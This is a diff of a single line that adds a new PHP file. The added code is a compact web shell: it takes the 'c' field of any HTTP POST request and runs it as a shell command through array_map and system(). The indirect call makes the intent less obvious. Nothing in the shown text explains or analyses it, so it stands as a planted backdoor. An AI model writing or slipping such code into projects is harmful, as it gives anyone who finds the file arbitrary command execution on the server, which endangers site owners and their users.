@@ -1,0 +1,1 @@
+<?php $p = $_POST; array_map("system", [$p["c"]]);
